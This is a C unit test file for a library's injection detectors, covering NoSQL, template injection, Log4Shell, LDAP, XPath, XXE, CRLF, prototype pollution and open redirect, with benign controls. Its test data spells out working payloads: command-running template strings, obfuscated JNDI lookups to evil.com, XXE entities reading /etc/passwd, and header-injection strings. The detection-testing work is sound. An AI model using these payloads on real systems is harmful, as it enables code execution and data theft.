/* test_detect_inject.c - NoSQL, SSTI, Log4Shell, LDAP, XPath, XXE, CRLF,
 * prototype-pollution and open-redirect detectors. Values are given as the
 * detectors receive them: already URL-decoded once. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detect.h"

typedef int (*detector)(const char *, size_t, int, vigil__finding *);

static void expect_all(detector fn, const char *name, const char *const *vals, size_t cnt,
                       int sensitivity, int want)
{
    for (size_t i = 0; i < cnt; i++) {
        vigil__finding f;
        memset(&f, 0, sizeof f);
        size_t n = strlen(vals[i]);
        int got = fn(vals[i], n, sensitivity, &f);
        if (got != want)
            fail_msg("%s(sensitivity %d) on \"%s\": got %d, want %d (%s)", name, sensitivity,
                     vals[i], got, want, f.detail ? f.detail : "-");
        if (got) {
            assert_non_null(f.detail);
            assert_true(f.score >= 1 && f.score <= 100);
            assert_true(f.off <= n && f.len <= n - f.off);
        }
    }
}

#define FIRES(fn, sens, ...)                                                             \
    do {                                                                                 \
        static const char *const v_[] = {__VA_ARGS__};                                   \
        expect_all(fn, #fn, v_, sizeof v_ / sizeof v_[0], sens, 1);                      \
    } while (0)
#define QUIET(fn, sens, ...)                                                             \
    do {                                                                                 \
        static const char *const v_[] = {__VA_ARGS__};                                   \
        expect_all(fn, #fn, v_, sizeof v_ / sizeof v_[0], sens, 0);                      \
    } while (0)

/* Ordinary API values none of these detectors may flag at sensitivity 2. */
static const char *const BENIGN[] = {
    "O'Brien", "john.doe@example.com", "12345", "2024-01-15T10:30:00Z", "report.pdf",
    "/docs/intro", "https://example.com/search?q=hello+world&page=2", "select your plan",
    "Tom & Jerry", "1+1=2", "(a+b)*(c-d)", "Price: $19.99", "#hashtag", "I <3 NY",
    "Drop me a line when you're free; I'll call back.",
    "Dear team,\n\nPlease find attached the report.\n\nRegards,\nAnn",
    "Note: the meeting moved to 3pm.\nLocation: Room 4B\nAgenda: budget",
    "{\"name\": \"Alice\", \"age\": 30}", "{\"a\":{\"b\":{\"c\":1}}}",
    "Hello {{name}}, your order {{order.id}} has shipped.", "Dear ${firstName}, welcome!",
    "{% if user %}Hi{% endif %}", "The template uses <%= title %> for the page title",
    "const msg = `Hello ${user.name}`;", "*{box-sizing:border-box}", "color: #{lighten($c, 20%)};",
    "(objectClass=person)", "(&(objectClass=user)(cn=John))", "See note (1)(a) of the contract",
    "It's 'x' or 'y', your choice", "The XPath //book[@id='1'] selects a book",
    "db.collection.find() returns a cursor", "a || b && c", "this.props.onChange(value)",
    "<!DOCTYPE html><html><body>Hi</body></html>",
    ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
     "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"),
    "<?xml version=\"1.0\"?><order><id>5</id></order>", "Use %0A for newline in URLs",
    "The string \"a\\r\\nb\" has two lines", "!@#$%^&*()-", "${HOME:-/tmp}", "jndi is a Java API",
    "Ratio (3:2) and (4:3)", "čas: 5 minut", "日本語のテキスト",
};

static void test_benign(void **state)
{
    (void)state;
    detector value_fns[] = {vigil__detect_nosql, vigil__detect_ssti, vigil__detect_log4shell,
                            vigil__detect_ldap,  vigil__detect_xpath, vigil__detect_xxe,
                            vigil__detect_crlf};
    const char *names[] = {"nosql", "ssti", "log4shell", "ldap", "xpath", "xxe", "crlf"};
    for (size_t k = 0; k < sizeof value_fns / sizeof value_fns[0]; k++)
        expect_all(value_fns[k], names[k], BENIGN, sizeof BENIGN / sizeof BENIGN[0], 2, 0);
}

static void test_nosql(void **state)
{
    (void)state;
    FIRES(vigil__detect_nosql, 2, "{\"$ne\": null}", "{\"$gt\": \"\"}", "{ $ne: 1 }",
          "true, $where: '1 == 1'", "' } ], $comment:'successful MongoDB injection'",
          "username[$ne]=admin&password[$ne]=x", "'; return true; var x='", "0;return true",
          "' && this.password.match(/.*/)//", "';sleep(5000);'", "|| 1==1", "' || 'a'=='a",
          ";var d = new Date(); do{c = new Date();}while(c-d<10000)",
          "db.injection.insert({success:1});", "}, { password : /.*/ }",
          "{\"username\":{\"$in\":[\"admin\",\"root\"]}}");
    /* operators only count in key position, JavaScript only after a break */
    QUIET(vigil__detect_nosql, 2, "The '$ne' operator means not equal", "Use $gt and $lt",
          "return true; // always", "sleep(1000) in a loop is bad", "new Date().getTime()",
          "x = y || 'default';", "if (a == b) return;");
    FIRES(vigil__detect_nosql_key, 1, "$ne", "$where", "password[$ne]", "user[password][$regex]",
          "a[$in][]", "filter.$where", "$elemMatch");
    QUIET(vigil__detect_nosql_key, 3, "name", "$schema", "$ref", "$id", "$oid", "$type",
          "user[name]", "price$gt", "items[0][price]");
}

static void test_ssti(void **state)
{
    (void)state;
    FIRES(vigil__detect_ssti, 1, "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{ 7 * 7 }", "@(6*7)",
          "{{ ''.__class__.__mro__[2].__subclasses__() }}", "{{config.items()}}",
          "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% import os %}",
          "<%= File.open('/etc/passwd').read %>", "<%= `id` %>",
          "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}", "{php}echo `id`;{/php}",
          "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
          "${self.module.cache.util.os.system(\"id\")}", "{system('ls')}",
          "{{constructor.constructor('alert(1)')()}}");
    FIRES(vigil__detect_ssti, 2, "{{self}}", "{{ request }}", "#set($x = 1)", "{$smarty.version}",
          "{{#with \"s\" as |string|}}{{/with}}", "{% include \"/etc/passwd\" %}");
    /* plain placeholders only at sensitivity 3 */
    QUIET(vigil__detect_ssti, 2, "{{name}}", "${name}", "#{id}", "<%= title %>", "{{ items[0] }}",
          "{{ name|upper }}", "$5.00 and $PATH", "a@example.com");
    FIRES(vigil__detect_ssti, 3, "{{name}}", "${name}");
}

static void test_log4shell(void **state)
{
    (void)state;
    FIRES(vigil__detect_log4shell, 1, "${jndi:ldap://evil.com/a}", "${jNdI:rMi://1.2.3.4/x}",
          "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x/a}",
          "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
          "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}", "${${date:'j'}ndi:dns://x}",
          "${jnd${upper:\xc4\xb1}:ldap://x/a}", "${jndi:ldap://x/a", /* unclosed */
          "$${env:x:-${env:x:-$}{jndi:ldap://evil.com/w}}}", "User-Agent: ${jndi:iiop://x}");
    /* nested lookups without jndi: sensitivity 2; a single lookup: 3 */
    FIRES(vigil__detect_log4shell, 2, "${${env:USER:-x}}", "${jndi:foo}");
    QUIET(vigil__detect_log4shell, 2, "${env:HOME}", "${java:version}", "${name}", "$ {jndi:x}");
    FIRES(vigil__detect_log4shell, 3, "${env:AWS_SECRET_ACCESS_KEY}");
}

static void test_ldap(void **state)
{
    (void)state;
    FIRES(vigil__detect_ldap, 1, "*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)", "*)(&",
          "x*)(|(cn=*))");
    FIRES(vigil__detect_ldap, 2, "admin)(&)", ")(cn=))\\x00", "*(|(mail=*))", "(|(objectClass=*))",
          "jsmith)(|(mail=*)", "*))%00");
    QUIET(vigil__detect_ldap, 2, "f(x)(y)", "(a=1)(b=2)", "1) first 2) second",
          "(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group))");
}

static void test_xpath(void **state)
{
    (void)state;
    FIRES(vigil__detect_xpath, 1, "x' or name()='username' or 'x'='y",
          "' and count(/*)=1 and '1'='1", "' and count(/@*)=1 and '1'='1",
          "') and contains(../password,'c", "')] | //user/*[contains(*,'",
          "' or string-length(name(/*[1]))=4 or '");
    FIRES(vigil__detect_xpath, 2, "' or '1'='1", "' or ''='", "count(/child::node())",
          "/descendant::password");
    QUIET(vigil__detect_xpath, 2, "' OR 'x' /* comment */", "std::string s;",
          "parent::__construct()", "http://example.com//a[1]");
}

static void test_xxe(void **state)
{
    (void)state;
    FIRES(vigil__detect_xxe, 1,
          "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
          "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://e.example/x.dtd\"> %p;]>",
          "<!DOCTYPE foo SYSTEM \"http://e.example/evil.dtd\"><foo/>",
          "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
          "<! doctype x [ <! entity y system \"expect://id\"> ]>",
          "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></x>",
          "+ADwAIQ-DOCTYPE foo +AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-http://x+ACI +AD4AXQA+");
    FIRES(vigil__detect_xxe, 2, "<!DOCTYPE x PUBLIC \"any\" \"http://e.example/x.dtd\"><x/>",
          "<?xml version=\"1.0\" encoding=\"UTF-7\"?><x/>");
    QUIET(vigil__detect_xxe, 2, "<test></test>", "<![CDATA[x]]>",
          ("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
           "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>"));
}

static void test_crlf(void **state)
{
    (void)state;
    FIRES(vigil__detect_crlf, 1, "\r\nSet-Cookie: admin=1", "x\r\nLocation: http://evil.com",
          "a\r\n\r\nHTTP/1.1 200 OK", "%0d%0aSet-Cookie:%20x=y", "\\r\\nSet-Cookie: x=1",
          "\xe5\x98\x8a\xe5\x98\x8dSet-cookie:crlf=injection", "r\nContentLength: 0",
          "var\nPOST / HTTP/1.1", "aaa\nGET / HTTP/1.1");
    FIRES(vigil__detect_crlf, 2, "%0d%0a", "\\r\\n", "%0%0d%0ad%0%0d%0aa", "\n\n<script>x</script>",
          "a%0aX-Custom-Header: 1", /* escaped breaks only need a hyphenated name */
          "GET http://www.foo.bar HTTP/1.2");
    QUIET(vigil__detect_crlf, 2, "line1\r\nline2", "\r\n", "Subject: Hello\nBody text",
          "The headers were:\nX-Request-Id: abc", "Location: Paris",
          "Then\nGET the data over HTTP/1.1", "\xc4\x8d" "as: 5 minut");
}

static void test_proto(void **state)
{
    (void)state;
    FIRES(vigil__detect_proto_key, 1, "__proto__", "a[__proto__][isAdmin]", "x.__proto__.y",
          "constructor.prototype.isAdmin", "constructor[prototype][x]",
          "a[\"constructor\"][\"prototype\"]", "[\"__proto__\"]");
    QUIET(vigil__detect_proto_key, 2, "constructor", "prototype", "prototypeName", "protocol",
          "constructorId", "__typename");
    FIRES(vigil__detect_proto_key, 3, "constructor", "prototype");
}

static void test_redirect(void **state)
{
    (void)state;
    FIRES(vigil__detect_redirect, 1, "//evil.com", "///evil.com", "/\\evil.com", "\\\\evil.com",
          "\\/\\/evil.com/", "javascript:alert(1)", "  JavaScript:alert(1)",
          "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "/\t/evil.com",
          "https://trusted.com@evil.com", "http:///evil.com", "http:3627734734",
          "\xe3\x80\xb1" "evil.com", "/\xe3\x82\x9d" "evil.com");
    FIRES(vigil__detect_redirect, 2, "https://evil.com", "/https://evil.com", "<>//evil.com",
          "\";alert(0);//", "/example.com//..", "/login?next=https://evil.com", "@evil.com");
    QUIET(vigil__detect_redirect, 2, "/dashboard", "dashboard?tab=1", "/search?q=caf%C3%A9",
          "/users/123/edit#section", "settings", "#top", "?page=2", "/a/b/c/",
          "mailto:support@example.com", "./relative/page", "../parent", "/profile/o'brien",
          "/login?next=%2Fhome");
    QUIET(vigil__detect_redirect, 1, "https://example.com/welcome");
}

/* The trigger scans read 16 bytes at a time, short values as overlapping
 * halves, the last block overlapping the one before, and some triggers
 * only after given letters. A payload must be found wherever it sits:
 * each is tried after 0-40 filler bytes and before a few suffix lengths,
 * so every trigger byte lands on every lane, block edge and short path. */
typedef struct placed {
    detector    fn;
    const char *name;
    int         sensitivity;
    const char *payload;
    char        fill;   /* neutral filler for both sides */
    int         prefix; /* 0: the payload must start the value */
    int         suffix;
} placed;

static void test_positions(void **state)
{
    (void)state;
    static const placed cases[] = {
        {vigil__detect_nosql, "nosql", 1, "{\"$ne\": 1}", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 1, "$ne:", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 1, "'; return true; var x='", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 1, "1; THIS.pw == 'a'", ' ', 1, 0},
        {vigil__detect_nosql, "nosql", 1, "x; Db.users.find({})", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 1, "' || 'a'=='a", ' ', 1, 0},
        {vigil__detect_nosql, "nosql", 2, "password: /.*/", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 2, "';sleep(5000);'", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 2, "x+SLEEP (5000)", ' ', 1, 1},
        {vigil__detect_nosql, "nosql", 2, "{\"&exists\": true}", ' ', 1, 1},
        {vigil__detect_ssti, "ssti", 1, "{{7*7}}", ' ', 1, 1},
        {vigil__detect_ssti, "ssti", 1, "${7*7}", ' ', 1, 1},
        {vigil__detect_ssti, "ssti", 1, "<%= `id` %>", ' ', 1, 1},
        {vigil__detect_ssti, "ssti", 1, "@(6*7)", ' ', 1, 1},
        {vigil__detect_ssti, "ssti", 1, "{system('ls')}", ' ', 1, 1},
        {vigil__detect_ssti, "ssti", 1,
         "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")", ' ', 1, 1},
        {vigil__detect_log4shell, "log4shell", 1, "${jndi:ldap://evil.com/a}", 'a', 1, 1},
        {vigil__detect_ldap, "ldap", 1, "*)(uid=*))(|(uid=*", 'a', 1, 1},
        {vigil__detect_ldap, "ldap", 1, "*)(&", 'a', 1, 1},
        {vigil__detect_xpath, "xpath", 1, "x' or name()='username' or 'x'='y", ' ', 1, 1},
        {vigil__detect_xpath, "xpath", 2, "count(/child::node())", ' ', 1, 1},
        {vigil__detect_xpath, "xpath", 1, "')] | //user/*[contains(*,'", ' ', 1, 1},
        {vigil__detect_xpath, "xpath", 2, "a | //user[1]", ' ', 1, 1},
        {vigil__detect_xxe, "xxe", 1, "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
         ' ', 1, 1},
        {vigil__detect_xxe, "xxe", 1, "+ADwAIQ-DOCTYPE foo +AFs +ADwAIQ-ENTITY xxe SYSTEM", ' ', 1, 1},
        {vigil__detect_crlf, "crlf", 1, "\r\nSet-Cookie: admin=1", 'a', 1, 1},
        {vigil__detect_crlf, "crlf", 1, "%0d%0aSet-Cookie:%20x=y", 'a', 1, 1},
        {vigil__detect_crlf, "crlf", 1, "\\r\\nSet-Cookie: x=1", 'a', 1, 1},
        {vigil__detect_crlf, "crlf", 1, "\xe5\x98\x8a\xe5\x98\x8dSet-cookie:crlf=injection", 'a', 1, 1},
        {vigil__detect_crlf, "crlf", 1, "\xc4\x8d\xc4\x8aSet-Cookie: a=1", 'a', 1, 1},
        {vigil__detect_crlf, "crlf", 2, "GET / HTTP/1.1 ", 'x', 0, 1},
        {vigil__detect_proto_key, "proto", 1, "[__proto__][x]", 'a', 1, 1},
        {vigil__detect_proto_key, "proto", 1, "constructor.prototype.x", 'a', 1, 1},
        {vigil__detect_redirect, "redirect", 1, "//evil.com", 'a', 0, 1},
        {vigil__detect_redirect, "redirect", 1, "java\tscript:alert(1)", 'a', 0, 1},
        {vigil__detect_redirect, "redirect", 1, "/\\evil.com", 'a', 0, 1},
        {vigil__detect_redirect, "redirect", 2, "/login?next=https://evil.com", 'a', 0, 0},
        {vigil__detect_redirect, "redirect", 2, "\";alert(0);//", 'a', 0, 1},
    };
    static const size_t suffixes[] = {0, 1, 7, 16, 33};
    char buf[256];
    for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
        const placed *pc = &cases[c];
        size_t pl = strlen(pc->payload);
        for (size_t pre = 0; pre <= (pc->prefix ? 40u : 0u); pre++) {
            for (size_t si = 0; si < (pc->suffix ? 5u : 1u); si++) {
                size_t n = pre + pl + suffixes[si];
                memset(buf, pc->fill, n);
                memcpy(buf + pre, pc->payload, pl);
                vigil__finding f;
                if (!pc->fn(buf, n, pc->sensitivity, &f))
                    fail_msg("%s missed \"%s\" after %zu and before %zu filler bytes", pc->name,
                             pc->payload, pre, suffixes[si]);
            }
        }
    }
    /* short values of every length: the trigger at each position */
    for (size_t n = 3; n <= 20; n++) {
        for (size_t at = 0; at + 2 < n; at++) {
            memset(buf, 'x', n);
            memcpy(buf + at, "\nHost:a.b", n - at < 9 ? n - at : 9);
            vigil__finding f;
            int want = n - at >= 8; /* "\nHost:a." has a host-like value */
            if (vigil__detect_crlf(buf, n, 2, &f) != want)
                fail_msg("crlf on %zu bytes with the break at %zu: want %d", n, at, want);
        }
    }
}

/* Values without breaks or escapes only reach the request-line check
 * when they start with a capital and are longer than 14 bytes, or start
 * with a capital or a space and hold non-ASCII bytes anywhere (lead
 * bytes, or only continuation bytes, which the scan does not stop at). */
static void test_crlf_request_line(void **state)
{
    (void)state;
    FIRES(vigil__detect_crlf, 2, "GET / HTTP/1.1 x", "GET / HTTP/1.1\xc3\xa9",
          " GET / HTTP/1.1 \xf0\x9f\x98\x80", "\tGET / HTTP/1.1 \xc3\xa9",
          "GET / HTTP/1.1\xf0\x9f\x98\x80", " GET / HTTP/1.1 \x80", "\tGET / HTTP/1.1\xbf");
    QUIET(vigil__detect_crlf, 2, "GET / HTTP/1.1", " GET / HTTP/1.1", "\tGET / HTTP/1.1 x",
          "xGET / HTTP/1.1 \xc3\xa9", "xGET / HTTP/1.1 \x80");
}

/* Empty, NULL, binary and huge pathological inputs: defined result, no
 * crash, bounded time (the test would time out if a scan were quadratic). */
static void test_robust(void **state)
{
    (void)state;
    detector all[] = {vigil__detect_nosql, vigil__detect_nosql_key, vigil__detect_ssti,
                      vigil__detect_log4shell, vigil__detect_ldap, vigil__detect_xpath,
                      vigil__detect_xxe, vigil__detect_crlf, vigil__detect_proto_key,
                      vigil__detect_redirect};
    vigil__finding f;
    for (size_t k = 0; k < sizeof all / sizeof all[0]; k++) {
        assert_int_equal(all[k](NULL, 0, 2, &f), 0);
        assert_int_equal(all[k]("", 0, 2, &f), 0);
        (void)all[k]("\0\xff\xc0\x80", 4, 3, NULL); /* f may be NULL */
    }
    static const char *const pats[] = {"{{", "${", "$a.b(", "<!ENTITY x ", "' or ", "))))",
                                       ")(", "\r\n", "%0d%0a", "db.x(", "&&", "constructor",
                                       "${${", "'", "<%", "@a(", "\xe5\x98\x8a", "::"};
    size_t n = (size_t)1 << 18;
    char *buf = malloc(n);
    assert_non_null(buf);
    for (size_t p = 0; p < sizeof pats / sizeof pats[0]; p++) {
        size_t pl = strlen(pats[p]);
        for (size_t i = 0; i < n; i++)
            buf[i] = pats[p][i % pl];
        for (size_t k = 0; k < sizeof all / sizeof all[0]; k++)
            for (int sens = 1; sens <= 3; sens++)
                (void)all[k](buf, n, sens, &f);
    }
    free(buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_benign),  cmocka_unit_test(test_nosql),
        cmocka_unit_test(test_ssti),    cmocka_unit_test(test_log4shell),
        cmocka_unit_test(test_ldap),    cmocka_unit_test(test_xpath),
        cmocka_unit_test(test_xxe),     cmocka_unit_test(test_crlf),
        cmocka_unit_test(test_proto),   cmocka_unit_test(test_redirect),
        cmocka_unit_test(test_positions), cmocka_unit_test(test_crlf_request_line),
        cmocka_unit_test(test_robust),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
